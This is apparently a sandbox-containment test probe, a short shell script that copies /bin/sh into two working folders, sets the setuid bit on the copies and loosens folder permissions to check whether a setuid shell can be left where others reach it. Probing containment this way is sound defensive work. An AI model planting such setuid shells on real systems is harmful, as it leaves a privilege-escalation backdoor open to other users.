# title: leave a program that runs with its owner's rights where everybody reaches it
# class: writes
# prevented: kernel
# detected: -
# logged: no
. "$(dirname "$0")/facts.sh"
cp /bin/sh "$DESK/$MARK" && chmod 4755 "$DESK/$MARK" || exit 1
chmod 0755 "$DESK" "$DESK/.."
[ -u "$DESK/$MARK" ] && find "$DESK/.." -maxdepth 0 -perm -1 | grep -q . && echo "GOT: a setuid shell"
cp /bin/sh "$WORK/src/$MARK" && chmod 4755 "$WORK/src/$MARK" || exit 1
chmod 0755 "$WORK" "$WORK/.."
[ -u "$WORK/src/$MARK" ] && find "$WORK/.." -maxdepth 0 -perm -1 | grep -q . && echo "GOT: a setuid shell in the worktree"
chmod 0700 "$WORK" # the mode of its own folder is its own
